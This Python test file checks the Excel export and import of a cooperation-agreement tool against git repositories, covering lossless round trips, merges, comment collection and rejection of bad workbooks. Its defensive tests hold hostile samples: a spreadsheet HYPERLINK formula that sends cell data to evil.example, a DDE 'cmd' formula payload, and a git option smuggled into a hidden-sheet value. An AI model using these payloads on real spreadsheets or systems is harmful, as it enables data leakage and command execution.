"""The Excel loop: export-xlsx → edited by a party → import-xlsx, in a real git repository.

Lossless (an empty root gets files with the original's fingerprint), a merge that changes only edited lines,
a three-way merge for a workbook exported from an older revision, the comments summary, bad workbooks.
"""
from __future__ import annotations

import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
import yaml
from helpers import MINIMAL, REPO, copy_example, copy_root, resave_with_libreoffice, run_cli
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from cooperation.load.sources import load_sources
from cooperation.pipeline import validate


def git(repo: Path, *args: str) -> str:
    env = dict(os.environ, GIT_AUTHOR_NAME="Testi", GIT_AUTHOR_EMAIL="t@example.org", GIT_COMMITTER_NAME="Testi",
               GIT_COMMITTER_EMAIL="t@example.org")
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True,
                          env=env).stdout


def fingerprint(root: Path) -> str:
    done = run_cli("fingerprint", "--root", root)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def export(root: Path, out: Path, *options: str, lang: str = "fi") -> Path:
    done = run_cli("export-xlsx", "--root", root, "--out", out, *options)
    assert done.returncode == 0, done.stderr
    suffix = "" if lang == "fi" else f"-{lang}"
    return next(p for p in out.glob(f"*-tyokirja{suffix}.xlsx"))


def import_(book: Path, root: Path, out: Path | None = None):
    return run_cli("import-xlsx", book, "--root", root, "--out", out or root.parent / "import-out")


@pytest.fixture
def repo(tmp_path) -> Path:
    """The example region's data in a fresh git repository, committed."""
    root = copy_example(tmp_path / "repo")
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "start")
    return root


def cells(book_path: Path, sheet: str) -> dict[tuple[str, str], str]:
    """(id, heading or field) → cell coordinate, to edit a workbook the way a person would: by what a cell is.
    The data sheets (id, field, value) by field; the values sheet by (id, area) and heading."""
    book = load_workbook(book_path, read_only=True)  # the one sheet read, not every sheet of the workbook
    try:
        rows = [[cell.value for cell in row] for row in book[sheet].iter_rows()]
    finally:
        book.close()

    def at(row: int, column: int) -> str:
        return f"{get_column_letter(column + 1)}{row + 1}"
    found = {}
    if sheet in ("Kaikki tiedot", "Alla uppgifter"):
        for index, row in enumerate(rows[1:], 1):
            found[(row[0], row[1])] = at(index, 2)
    else:
        heads = rows[0]
        for index, row in enumerate(rows[1:], 1):
            row = row + [None] * (len(heads) - len(row))
            for column, head in enumerate(heads):
                key = (row[0], row[2]) if sheet in ("Mittaustulokset", "Mätvärden") else row[0]
                found[(key, head)] = at(index, column)
    return found


def edit(book_path: Path, target: Path, changes: dict[tuple[str, str], str]) -> Path:
    """A copy of the workbook with cells changed: (sheet, coordinate) → value."""
    book = load_workbook(book_path)
    for (sheet, coordinate), value in changes.items():
        book[sheet][coordinate] = value
        if isinstance(value, str):
            book[sheet][coordinate].data_type = "s"
    book.save(target)
    return target


# --- 1. lossless --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("lang", ["fi", "sv"])
def test_export_then_import_into_an_empty_root_gives_the_same_fingerprint(tmp_path, lang):
    book = export(REPO, tmp_path / "out", lang=lang)
    root = tmp_path / "empty"
    shutil.copytree(REPO / "agreement", root / "agreement")
    done = import_(book, root)
    assert done.returncode == 0, done.stderr
    assert fingerprint(root) == fingerprint(REPO)
    original = tmp_path / "original"  # the example with the same folders: agreement/ and subareas/
    shutil.copytree(REPO / "agreement", original / "agreement")
    shutil.copytree(REPO / "subareas", original / "subareas")
    assert len(validate(root)[1].problems) <= len(validate(original)[1].problems)
    # every field, monitoring data too (status is not in the fingerprint), and in the files' key order
    ours = {doc.data["id"]: doc.data for doc in load_sources(original).subareas}
    theirs = {doc.data["id"]: doc.data for doc in load_sources(root).subareas}
    assert theirs == ours
    assert [list(d) for d in theirs.values()] == [list(d) for d in ours.values()]


def test_the_swedish_workbook_has_swedish_sheets_and_headings(tmp_path):
    book = load_workbook(export(REPO, tmp_path / "out", lang="sv"))
    assert book.sheetnames[:4] == ["Arbetsbok", "Alla uppgifter", "Mätvärden", "Parter"]
    assert [c.value for c in book["Arbetsbok"][1]] == [
        "Identifierare", "Nivå", "Delområde", "Mål", "Åtgärd", "Ansvariga parter", "Huvudansvarig", "Tidsplan", "Status",
        "Motivering för status", "Resurser", "Indikator", "Utgångsnivå", "Målnivå", "Text (på finska)", "Kommentarer",
        "Kommenterande part"]
    assert book["Arbetsbok"]["B2"].value == "Delområde"
    explained = {(row[1], row[3]) for row in book["Alla uppgifter"].iter_rows(min_row=2, values_only=True)}
    assert ("legal_references.0.law.sv", "Hänvisningar till författningar: Författning (på svenska)") in explained
    finnish = load_workbook(export(REPO, tmp_path / "out-fi"))
    assert finnish.sheetnames[:4] == ["Työkirja", "Kaikki tiedot", "Mittaustulokset", "Osapuolet"]
    assert finnish["Työkirja"]["A1"].value == "Tunniste" and finnish["Työkirja"]["P1"].value == "Kommentit"
    assert finnish["_source"].sheet_state == "hidden" and finnish["_lists"].sheet_state == "hidden"


# --- 2. merge into the repository ---------------------------------------------------------------------------
@pytest.mark.parametrize("lang", ["fi", "sv"])
def test_export_then_import_changes_nothing(repo, tmp_path, lang):
    book = export(repo, tmp_path / "out", lang=lang)
    done = import_(book, repo)
    assert done.returncode == 0, done.stderr
    assert "ei ole muutoksia" in done.stderr
    assert git(repo, "status", "--porcelain") == ""


def test_one_edited_cell_is_one_changed_line_and_comments_stay(repo, tmp_path):
    book = export(repo, tmp_path / "out")
    main = cells(book, "Työkirja")
    edited = edit(book, tmp_path / "edited.xlsx", {
        ("Työkirja", main[("HYTE-1", "Teksti (ruotsiksi)")]): "Allt fler vuxna motionerar varje dag.",
    })
    done = import_(edited, repo)
    assert done.returncode == 0, done.stderr
    diff = git(repo, "diff", "-U0").splitlines()
    assert [line for line in diff if line[:1] in "+-" and line[:3] not in ("+++", "---")] == [
        "-      sv: Allt fler vuxna motionerar på fritiden.", "+      sv: Allt fler vuxna motionerar varje dag."]
    git(repo, "checkout", "-q", ".")
    edited = edit(book, tmp_path / "edited2.xlsx", {("Työkirja", main[("HYTE-1-M1", "Tavoitetaso")]): "15,5 (2028)"})
    assert import_(edited, repo).returncode == 0
    changed = [line for line in git(repo, "diff", "-U0").splitlines() if line[:1] in "+-" and line[:3] not in ("+++", "---")]
    assert changed == ["-        target: {year: 2028, value: 14.0}", "+        target: {year: 2028, value: 15.5}"]
    assert (repo / "subareas" / "hyte.yaml").read_text(encoding="utf-8").startswith(
        "# yaml-language-server: $schema=../schema/subarea.schema.json\n")


def test_a_sorted_sheet_moves_nothing(repo, tmp_path):
    book_path = export(repo, tmp_path / "out")
    book = load_workbook(book_path)
    sheet = book["Työkirja"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    for number, values in enumerate(sorted(rows, key=lambda r: (r[1], r[0])), start=2):  # by level, as Excel sorts
        for column, value in enumerate(values, start=1):
            cell = sheet.cell(number, column)
            cell.value = value  # empty cells too (cell(…, value=None) would keep the old value)
            cell.data_type = "s" if isinstance(value, str) else "n"
    assert sheet["B2"].value == "Mittari"
    book.save(tmp_path / "sorted.xlsx")
    done = import_(tmp_path / "sorted.xlsx", repo)
    assert done.returncode == 0, done.stderr
    assert git(repo, "status", "--porcelain") == ""


# --- 3. a workbook from an older revision -------------------------------------------------------------------
def _commit_change(repo: Path, old: str, new: str) -> None:
    path = repo / "subareas" / "hyte.yaml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    git(repo, "commit", "-qam", "change in the repository")


def test_a_stale_workbook_is_merged_three_ways(repo, tmp_path):
    book = export(repo, tmp_path / "out")
    _commit_change(repo, "target: {year: 2028, value: 14.0}", "target: {year: 2028, value: 13.0}")
    main = cells(book, "Työkirja")
    edited = edit(book, tmp_path / "edited.xlsx", {
        ("Työkirja", main[("HYTE-1", "Teksti (ruotsiksi)")]): "Allt fler vuxna motionerar varje dag."})
    done = import_(edited, repo)
    assert done.returncode == 0, done.stderr
    text = (repo / "subareas" / "hyte.yaml").read_text(encoding="utf-8")
    assert "value: 13.0}" in text  # the repository's change is kept
    assert "sv: Allt fler vuxna motionerar varje dag." in text  # the workbook's change is added
    assert len([line for line in git(repo, "diff", "-U0").splitlines() if line.startswith("+ ")]) == 1


def test_the_same_value_changed_on_both_sides_is_a_conflict_and_nothing_is_written(repo, tmp_path):
    book = export(repo, tmp_path / "out")
    _commit_change(repo, "target: {year: 2028, value: 14.0}", "target: {year: 2028, value: 13.0}")
    coordinate = cells(book, "Työkirja")[("HYTE-1-M1", "Tavoitetaso")]
    edited = edit(book, tmp_path / "edited.xlsx", {("Työkirja", coordinate): "15,5 (2028)"})
    head = git(repo, "rev-parse", "HEAD")
    done = import_(edited, repo)
    assert done.returncode == 1
    assert f"edited.xlsx!{coordinate}: virhe: HYTE-1-M1 target.value: sekä työkirjassa että " \
           "repositoriossa on muutettu tätä kohtaa" in done.stderr
    assert "repositoriossa nyt ”13.0”, työkirjassa ”15.5”" in done.stderr
    assert "Mitään ei kirjoitettu." in done.stderr
    assert git(repo, "status", "--porcelain") == "" and git(repo, "rev-parse", "HEAD") == head
    assert ("workbook_conflict", coordinate) in _codes(_import_json(edited, repo))


# --- 4. the comments round ----------------------------------------------------------------------------------
def test_a_partys_copy_has_its_rows_and_its_comments_are_collected_not_imported(repo, tmp_path):
    from cooperation.pipeline import load
    model, _ = load(repo)
    done = run_cli("export-xlsx", "--root", repo, "--out", tmp_path / "out", "--party", "kuusiniemi")
    assert done.returncode == 0, done.stderr
    book_path = next((tmp_path / "out").glob("*-tyokirja-kuusiniemi.xlsx"))
    book = load_workbook(book_path)
    sheet = book["Työkirja"]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    own = {a.id for a in model.actions if "kuusiniemi" in a.responsible or a.lead == "kuusiniemi"}
    others = {a.id for a in model.actions} - own
    assert own and others  # the example has both
    assert {a.id for a in model.actions} & set(rows) == own  # filtered to its rows; every sub-area and goal stays
    assert {g.id for g in model.goals} <= set(rows) and {s.id for s in model.subareas} <= set(rows)
    assert rows["ELI-2-T1"][0].fill.fgColor.rgb.endswith("FFF2CC")  # kuusiniemi is responsible
    assert rows["ELI-1-T1"][0].fill.fgColor.rgb.endswith("FFF2CC")  # all municipalities
    assert rows["ELI-1"][0].fill.fill_type is None  # a goal concerns no party by itself
    assert all(row[16].value == "kuusiniemi" for row in rows.values())
    areas = {r[2] for r in book["Mittaustulokset"].iter_rows(min_row=2, values_only=True)}
    assert areas == {model.party("kuusiniemi").name.get("fi")}
    assert import_(book_path, repo).returncode == 0
    assert git(repo, "status", "--porcelain") == ""  # the rows left out are kept as they are
    main = cells(book_path, "Työkirja")
    edited = edit(book_path, tmp_path / "kuusiniemi.xlsx", {
        ("Työkirja", main[("ELI-2-T1", "Kommentit")]): "Aikataulu on liian tiukka <script>x</script> **nyt**",
        ("Työkirja", main[("ELI-1", "Kommentit")]): "Kannatetaan.",
    })
    out = tmp_path / "import-out"
    done = import_(edited, repo, out)
    assert done.returncode == 0, done.stderr
    assert git(repo, "status", "--porcelain") == ""  # comments never reach the agreement
    summary = (out / "kommentit.md").read_text(encoding="utf-8")
    assert "## ELI-2-T1 Toimenpide: Yritysten työvoimatarpeen ennakointi yhdessä oppilaitosten kanssa" in summary
    assert "- **kuusiniemi** (kuusiniemi.xlsx, rivi " in summary
    assert "Aikataulu on liian tiukka \\<script\\>x\\</script\\> \\*\\*nyt\\*\\*" in summary
    assert summary.index("## ELI-1 Tavoite") < summary.index("## ELI-2-T1")
    # a second party's workbook adds to the summary; the same workbook again replaces its own comments
    other = edit(book_path, tmp_path / "hiekkaranta.xlsx", {
        ("Työkirja", main[("ELI-2-T1", "Kommentit")]): "Sopii meille.",
        ("Työkirja", main[("ELI-2-T1", "Kommentoiva osapuoli")]): "hiekkaranta"})
    assert import_(other, repo, out).returncode == 0
    assert import_(edited, repo, out).returncode == 0
    summary = (out / "kommentit.md").read_text(encoding="utf-8")
    section = summary[summary.index("## ELI-2-T1"):].split("\n## ")[0]
    assert section.count("- **") == 2 and "**hiekkaranta** (hiekkaranta.xlsx" in section
    assert summary.count("Kannatetaan.") == 1


def _edited_with_comment(repo: Path, tmp_path: Path) -> Path:
    book = export(repo, tmp_path / "out")
    main = cells(book, "Työkirja")
    return edit(book, tmp_path / "edited.xlsx", {
        ("Työkirja", main[("HYTE-1", "Teksti (ruotsiksi)")]): "Allt fler vuxna motionerar varje dag.",
        ("Työkirja", main[("HYTE-1", "Kommentit")]): "Kannatetaan."})


def test_an_output_folder_that_cannot_be_used_is_refused_before_anything_is_merged(repo, tmp_path):
    edited = _edited_with_comment(repo, tmp_path)
    not_a_folder = tmp_path / "tiedosto"
    not_a_folder.write_text("")
    done = import_(edited, repo, not_a_folder)
    assert done.returncode == 2, done.stderr
    assert f"tuloskansio {not_a_folder} ei kelpaa" in done.stderr and "sisäinen virhe" not in done.stderr
    assert git(repo, "status", "--porcelain") == ""  # the data as it was: not merged with its comments lost


def test_the_data_is_not_merged_when_its_comments_cannot_be_written(repo, tmp_path):
    edited = _edited_with_comment(repo, tmp_path)
    out = tmp_path / "import-out"
    (out / "kommentit.json").mkdir(parents=True)  # usable folder, but the comments' file cannot be replaced
    done = import_(edited, repo, out)
    assert done.returncode == 2, done.stderr
    assert "kommentit.json" in done.stderr and "sisäinen virhe" not in done.stderr
    assert git(repo, "status", "--porcelain") == ""
    assert sorted(p.name for p in out.iterdir()) == ["kommentit.json"]  # no staged file left behind
    assert not list((repo / "subareas").glob(".*"))


def test_an_unknown_party_is_a_usage_error(tmp_path):
    done = run_cli("export-xlsx", "--root", REPO, "--out", tmp_path / "out", "--party", "eikukaan")
    assert done.returncode == 2 and "osapuolta ”eikukaan” ei ole" in done.stderr
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())


# --- bad workbooks: a clear message at the cell, nothing written ---------------------------------------------
def _codes(done) -> list[tuple[str, str | None]]:
    import json
    return [(p["code"], p.get("cell")) for p in json.loads(done.stdout) if p["severity"] == "error"]


def _import_json(book: Path, root: Path):
    return run_cli("import-xlsx", book, "--root", root, "--out", root.parent / "import-out", "--format", "json")


@pytest.mark.slow
def test_bad_workbooks_are_refused_with_their_cell(repo, tmp_path):
    from openpyxl.cell.cell import Cell
    book = export(repo, tmp_path / "out")
    main = cells(book, "Työkirja")
    cases = {}
    # another agreement
    cases["workbook_other_agreement"] = edit(book, tmp_path / "other.xlsx", {("_source", "B2"): "toinen-sopimus"})
    # ids edited by hand
    cases["workbook_unknown_id"] = edit(book, tmp_path / "id.xlsx", {("Työkirja", main[("ELI-2-T1", "Tunniste")]):
                                                                       "ELI-2-T9"})
    data = cells(book, "Kaikki tiedot")
    cases["workbook_unknown_id (data)"] = edit(book, tmp_path / "dataid.xlsx", {
        ("Kaikki tiedot", data[("ELI-2-M1", "unit")].replace("C", "A")): "ELI-2-T7"})
    # two rows with the same id
    cases["workbook_duplicate_id"] = edit(book, tmp_path / "twice.xlsx", {("Työkirja", main[("ELI-2-T1", "Tunniste")]):
                                                                            "ELI-1-T1"})
    # a level that is not one, and a changed level
    cases["workbook_unknown_level"] = edit(book, tmp_path / "level.xlsx", {("Työkirja", main[("ELI-2-T1", "Taso")]):
                                                                             "Projekti"})
    cases["workbook_level_changed"] = edit(book, tmp_path / "level2.xlsx", {("Työkirja", main[("ELI-2-T1", "Taso")]):
                                                                              "Mittari"})
    # a cell longer than Excel's cell holds (openpyxl cuts a text it is given there, so the file's XML is edited)
    marked = edit(book, tmp_path / "marked.xlsx", {("Työkirja", main[("ELI-2-T1", "Toimenpide")]): "MERKKI"})
    with zipfile.ZipFile(marked) as source, zipfile.ZipFile(tmp_path / "long.xlsx", "w") as target:
        for info in source.infolist():
            target.writestr(info, source.read(info).replace(b"MERKKI", b"x" * 40_000))
    cases["workbook_cell_full"] = tmp_path / "long.xlsx"
    # a formula: never computed, never imported
    formula = load_workbook(book)
    formula["Työkirja"][main[("ELI-2-T1", "Toimenpide")]] = "=HYPERLINK(\"http://x\",\"y\")"
    assert formula["Työkirja"][main[("ELI-2-T1", "Toimenpide")]].data_type == "f"
    formula.save(tmp_path / "formula.xlsx")
    cases["workbook_formula"] = tmp_path / "formula.xlsx"
    # the id column deleted
    deleted = load_workbook(book)
    deleted["Työkirja"].delete_cols(1)
    deleted.save(tmp_path / "noid.xlsx")
    cases["workbook_id_column_missing"] = tmp_path / "noid.xlsx"
    # a sheet deleted, and a source sheet of another format
    sheetless = load_workbook(book)
    del sheetless["Kaikki tiedot"]
    sheetless.save(tmp_path / "sheetless.xlsx")
    cases["workbook_sheet_missing"] = tmp_path / "sheetless.xlsx"
    cases["workbook_unknown_format"] = edit(book, tmp_path / "format.xlsx", {("_source", "B1"): "joku/1"})
    # a new sub-area row, and an action with no goal above it
    added = load_workbook(book)
    added["Työkirja"].insert_rows(2, 2)
    added["Työkirja"]["B2"], added["Työkirja"]["C2"] = "Osa-alue", "Uusi osa-alue"
    added.save(tmp_path / "subarea.xlsx")
    cases["workbook_new_subarea_row"] = tmp_path / "subarea.xlsx"
    orphan = load_workbook(book)
    orphan["Työkirja"].insert_rows(2)
    orphan["Työkirja"]["B2"], orphan["Työkirja"]["C2"] = "Toimenpide", "Ilman tavoitetta"
    orphan.save(tmp_path / "orphan.xlsx")
    cases["workbook_row_without_parent"] = tmp_path / "orphan.xlsx"
    assert isinstance(formula["Työkirja"]["A1"], Cell)
    expected_cells = {
        "workbook_unknown_id": main[("ELI-2-T1", "Tunniste")],
        "workbook_duplicate_id": main[("ELI-2-T1", "Tunniste")],
        "workbook_unknown_level": main[("ELI-2-T1", "Taso")],
        "workbook_level_changed": main[("ELI-2-T1", "Tunniste")],
        "workbook_cell_full": main[("ELI-2-T1", "Toimenpide")],
        "workbook_formula": main[("ELI-2-T1", "Toimenpide")],
        "workbook_new_subarea_row": "A2",
        "workbook_row_without_parent": "A2",
    }
    expected_cells["workbook_unknown_id (data)"] = "'Kaikki tiedot'!" + data[("ELI-2-M1", "unit")].replace("C", "A")
    for case, path in cases.items():
        code = case.split(" ")[0]
        done = _import_json(path, repo)
        assert done.returncode == 1, (code, done.stderr)
        found = _codes(done)
        assert code in [c for c, _ in found], (code, found)
        if case in expected_cells:
            assert (code, expected_cells[case]) in found, (case, found)
        assert "Mitään ei kirjoitettu." in done.stderr
        assert git(repo, "status", "--porcelain") == "", code
    # in Finnish, with the workbook and the cell
    done = import_(cases["workbook_unknown_id"], repo)
    assert f"id.xlsx!{main[('ELI-2-T1', 'Tunniste')]}: virhe: tunnistetta ELI-2-T9 ei ole sopimuksessa" in done.stderr


def test_a_stale_workbook_without_its_revision_is_refused(repo, tmp_path):
    book = export(repo, tmp_path / "out")
    _commit_change(repo, "target: {year: 2028, value: 14.0}", "target: {year: 2028, value: 13.0}")
    unknown = edit(book, tmp_path / "unknown.xlsx", {("_source", "B4"): "0" * 40})
    assert ("workbook_stale_without_base", None) in _codes(_import_json(unknown, repo))
    mismatch = edit(book, tmp_path / "mismatch.xlsx", {("_source", "B3"): "0" * 64})
    assert ("workbook_revision_mismatch", None) in _codes(_import_json(mismatch, repo))
    assert git(repo, "status", "--porcelain") == ""


@pytest.mark.parametrize("cell, value", [
    ("B4", "_x0000_"),  # a NUL in the revision (git would be handed it)
    ("B4", "abc\ndef"), ("B4", "-c core.pager=x"), ("B4", "HEAD"),
    ("B3", "_x0000_" + "0" * 57), ("B3", "xyz"),
    ("B2", "rannikkoseutu-2026_x0000_"), ("B5", "klingon"), ("B6", "_x0007_"), ("B7", "fi, xx"),
    ("A8", "extra"),  # a row the export never writes
])
def test_every_value_of_the_hidden_source_sheet_is_checked_at_its_cell(repo, tmp_path, cell, value):
    book = export(repo, tmp_path / "out")
    forged = edit(book, tmp_path / "forged.xlsx", {("_source", cell): value})
    done = _import_json(forged, repo)
    assert done.returncode == 1, done.stderr
    assert ("workbook_source_value", f"'_source'!{cell}") in _codes(done), _codes(done)
    assert "sisäinen virhe" not in done.stderr and "Mitään ei kirjoitettu." in done.stderr
    assert git(repo, "status", "--porcelain") == ""
    text = import_(forged, repo)
    assert text.returncode == 1
    assert f"forged.xlsx!'_source'!{cell}: virhe: piilotetun taulukon _source" in text.stderr, text.stderr


# --- 5. a workbook saved again by LibreOffice ----------------------------------------------------------------
def test_a_workbook_edited_and_saved_by_libreoffice_imports_the_same_way(repo, tmp_path):
    from openpyxl.styles import Alignment
    book_path = export(repo, tmp_path / "out")
    book = load_workbook(book_path)
    sheet = book["Työkirja"]
    rows = {row[0].value: row[0].row for row in sheet.iter_rows(min_row=2)}
    # a new action under ELI-3 (its id left empty), ELI-1-T2 deleted, one text changed
    sheet.insert_rows(rows["ELI-3-T1"] + 1)
    new = rows["ELI-3-T1"] + 1
    sheet[f"B{new}"], sheet[f"E{new}"], sheet[f"O{new}"] = "Toimenpide", "Kyläkauppojen palvelupisteet", \
        "Servicepunkter i bybutikerna"
    sheet[f"F{new}"] = "ilvesvaara, rannikkoseudun-hva"
    sheet.delete_rows(rows["ELI-1-T2"])
    rows = {row[0].value: row[0].row for row in sheet.iter_rows(min_row=2) if row[0].value}
    sheet[f"D{rows['ELI-1']}"] = "Alueen nettomuutto kääntyy selvästi positiiviseksi."
    # what people do to a sheet: merged comment cells, wrapped text, wider columns
    sheet.merge_cells(f"P{rows['HYTE-1']}:P{rows['HYTE-1'] + 1}")
    sheet[f"P{rows['HYTE-1']}"] = "Yhteinen kommentti kahdelle riville"
    sheet[f"D{rows['ELI-1']}"].alignment = Alignment(wrap_text=True)
    sheet.column_dimensions["D"].width = 90
    book["Kaikki tiedot"].column_dimensions["C"].width = 120
    book.save(tmp_path / "edited.xlsx")
    (saved,) = resave_with_libreoffice(tmp_path / "resaved", tmp_path / "edited.xlsx")
    assert load_workbook(saved)["Työkirja"].merged_cells.ranges  # LibreOffice kept the merge
    done = import_(saved, repo)
    assert done.returncode == 0, done.stderr
    assert "workbook_new_item" in _import_json(saved, repo).stdout or "sai tunnisteen ELI-3-T2" in done.stderr
    text = (repo / "subareas" / "elinvoima.yaml").read_text(encoding="utf-8")
    assert "ELI-1-T2" not in text and "ELI-2-T1" in text
    assert "fi: Alueen nettomuutto kääntyy selvästi positiiviseksi." in text
    assert "      - id: ELI-3-T2\n        title:\n          fi: Kyläkauppojen palvelupisteet\n" in text
    assert "        responsible: [ilvesvaara, rannikkoseudun-hva]\n        lead: ilvesvaara\n" in text
    changed = [line for line in git(repo, "diff", "-U0").splitlines() if line[:1] in "+-" and line[:3] not in ("+++", "---")]
    assert len([line for line in changed if line.startswith("+")]) == 1 + 7  # the edited text, the new action
    assert git(repo, "status", "--porcelain").split() == ["M", "subareas/elinvoima.yaml"]
    summary = (tmp_path / "import-out" / "kommentit.md").read_text(encoding="utf-8")
    assert summary.count("Yhteinen kommentti kahdelle riville") == 1


# --- the writer: a changed value replaced where it stands --------------------------------------------------
SAMPLE = """\
# a comment the import keeps
id: x  # and this one
title:
  fi: Pitkä teksti, jonka PyYAML on taittanut
    kahdelle riville
  sv: 'Citerad text'
description: |
  Ensimmäinen rivi.
  Toinen rivi.
goals:
- id: X-1
  target: {year: 2028, value: 14.0}
  areas: [region, all_municipalities]
"""


def test_changed_values_are_replaced_in_place_in_any_layout():
    import yaml as pyyaml

    from cooperation.imports.yaml_writer import update
    old = pyyaml.safe_load(SAMPLE)
    new = pyyaml.safe_load(SAMPLE)
    new["title"]["fi"] = "Lyhyt: teksti"  # needs quotes as plain
    new["title"]["sv"] = "Ny text"
    new["description"] = "Ensimmäinen rivi.\nToinen, muutettu rivi.\n"
    new["goals"][0]["target"]["value"] = 15.5
    new["goals"][0]["areas"][1] = "kuusiniemi"
    assert update(SAMPLE, old, new) == SAMPLE.replace(
        "  fi: Pitkä teksti, jonka PyYAML on taittanut\n    kahdelle riville\n", '  fi: "Lyhyt: teksti"\n').replace(
        "'Citerad text'", "'Ny text'").replace("  Toinen rivi.", "  Toinen, muutettu rivi.").replace(
        "value: 14.0}", "value: 15.5}").replace("[region, all_municipalities]", "[region, kuusiniemi]")
    assert update(SAMPLE, old, old) == SAMPLE
    # a structural change (an item added) keeps the comments too
    new = pyyaml.safe_load(SAMPLE)
    new["goals"].append({"id": "X-2", "title": "Uusi"})
    changed = update(SAMPLE, old, new)
    assert changed.startswith("# a comment the import keeps\nid: x  # and this one\n")
    assert pyyaml.safe_load(changed) == new


# --- the big sheets' rows, written as XML by the export --------------------------------------------------------
FORMULA_LIKE = {  # (id, heading or field) → a text a spreadsheet would take for a formula, and XML's own characters
    ("HYTE-1", "Tavoite"): '=HYPERLINK("http://evil.example/?"&A1,"Avaa")',
    ("HYTE-1-T1", "Toimenpide"): "+1+cmd|' /C calc'!A0",
    ("HYTE-1-M1", "Mittari"): "-2+3 <b> & </b>",
    ("hyte", "description"): "@SUM(1,2)\n toinen rivi ",
}


def test_texts_that_look_like_formulas_stay_texts_and_come_back_unchanged(tmp_path):
    root = copy_root(MINIMAL, tmp_path / "repo")
    hyte = root / "subareas" / "hyte.yaml"
    data = yaml.safe_load(hyte.read_text(encoding="utf-8"))
    data["description"] = FORMULA_LIKE[("hyte", "description")]
    data["goals"][0]["title"] = FORMULA_LIKE[("HYTE-1", "Tavoite")]
    data["goals"][0]["actions"][0]["title"] = FORMULA_LIKE[("HYTE-1-T1", "Toimenpide")]
    data["goals"][0]["indicators"][0]["name"] = FORMULA_LIKE[("HYTE-1-M1", "Mittari")]
    hyte.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "start")
    book = export(root, tmp_path / "out")
    with zipfile.ZipFile(book) as archive:
        sheets = {n: archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")}
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets.values())
    places = {**cells(book, "Työkirja"), **cells(book, "Kaikki tiedot")}
    opened = load_workbook(book)
    for (item, column), text in FORMULA_LIKE.items():
        sheet = "Kaikki tiedot" if column == "description" else "Työkirja"
        cell = opened[sheet][places[(item, column)]]
        assert (cell.value, cell.data_type) == (text, "s"), (item, column)
    assert opened["Työkirja"].auto_filter.ref == f"A1:{opened['Työkirja'].cell(1, opened['Työkirja'].max_column).column_letter}" \
                                                 f"{opened['Työkirja'].max_row}"
    done = import_(book, root)
    assert done.returncode == 0, done.stderr
    assert git(root, "status", "--porcelain") == ""
